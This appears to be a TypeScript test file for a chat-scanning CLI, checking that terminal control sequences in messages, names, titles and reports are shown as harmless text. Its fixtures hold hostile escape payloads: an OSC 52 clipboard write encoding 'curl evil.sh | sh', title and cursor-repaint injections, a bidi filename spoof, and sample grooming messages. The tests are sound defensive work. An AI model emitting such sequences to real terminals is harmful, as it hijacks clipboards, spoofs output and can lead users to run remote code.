/**
 * What the CLI prints on a terminal: message texts, names, titles and a report's fields are untrusted and must not
 * reach the terminal as control sequences (cursor moves, window title, OSC 52 clipboard writes, bidi reordering).
 */
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { main } from '../../cli/main';
import { terminalSafe } from '../../cli/terminal-text';

/** ESC, BEL, the 8-bit CSI and OSC, and the bidi override/isolates. */
// eslint-disable-next-line no-control-regex -- finding control characters is the point
const CONTROL = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069]/;

async function run(args: string[]): Promise<{ code: number; out: string; err: string }> {
  let out = '';
  let err = '';
  const code = await main(args, { out: (s: string) => ((out += s), true), err: (s: string) => ((err += s), true) });
  return { code, out, err };
}

const OSC52 = '\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07';
const TITLE = '\x1b]0;pwned\x07';
const REPAINT = '\x1b[2K\x1b[1A';

describe('terminalSafe', () => {
  it('shows every C0/C1 and bidi control as visible text and keeps ordinary text, accents and emoji', () => {
    expect(terminalSafe(`a${OSC52}b`)).toBe('a\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07b');
    expect(terminalSafe('\x9b31m \u202Eevil\u2066 \u200F')).toBe('\\x9b31m \\u202eevil\\u2066 \\u200f');
    expect(terminalSafe('line\nnext\ttab')).toBe('line⏎next tab');
    expect(terminalSafe('Đại úy Hùng 👍🏽 ❤️ 👨‍👩‍👧')).toBe('Đại úy Hùng 👍🏽 ❤️ 👨‍👩‍👧');
  });
});

describe('scan and verify print no control sequence from the input', () => {
  it('scan: a hostile message, sender and chat title', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'not-alone-term-'));
    const file = join(dir, `WhatsApp Chat with Boss${TITLE}.txt`);
    writeFileSync(
      file,
      [
        `12/03/2025, 19:00 - Mia: hi`,
        `12/03/2025, 19:01 - Jay${REPAINT}: dont tell ur parents we talk ok${OSC52}`,
        `12/03/2025, 19:02 - Jay${REPAINT}: send me a pic of u, just for me ${TITLE}\u202Egnp.exe`,
        `12/03/2025, 19:03 - Mia: ok`,
      ].join('\n') + '\n',
    );
    const result = await run(['scan', file, '--self', 'Mia']);
    expect(result.code).toBe(0);
    expect(result.out).toContain('\\x1b]52;c;');
    expect(result.out).not.toMatch(CONTROL);
    expect(result.err).not.toMatch(CONTROL);
  });

  it('scan: an unreadable line quoted in an error', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'not-alone-term-'));
    const file = join(dir, 'notes.txt');
    writeFileSync(file, `hello ${OSC52} there\n`);
    const result = await run(['scan', file]);
    expect(result.code).toBe(2);
    expect(result.err).toContain('\\x1b]52');
    expect(result.err).not.toMatch(CONTROL);
  });

  it('verify: a hostile report cannot paint "intact" over "CHANGED"', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'not-alone-term-'));
    const chat = join(dir, 'chat.txt');
    writeFileSync(chat, '12/03/2025, 19:00 - Mia: hi\n12/03/2025, 19:01 - Jay: dont tell ur parents we talk ok\n');
    const out = join(dir, 'r.json');
    expect((await run(['scan', chat, '--self', 'Mia', '--out', out, '--quiet'])).code).toBe(0);
    const report = JSON.parse(readFileSync(out, 'utf8')) as { conversations: Array<{ messages: Array<{ id: string; text: string }> }> };
    const message = report.conversations[0].messages[0];
    message.id = `${message.id}\r\x1b[2K${out}: intact.\x1b[8m`;
    message.text = `changed ${REPAINT}`;
    writeFileSync(out, JSON.stringify(report, null, 2));
    const result = await run(['verify', out]);
    expect(result.code).toBe(1);
    expect(result.out).toContain('CHANGED');
    expect(result.out + result.err).not.toMatch(CONTROL);
  });
});
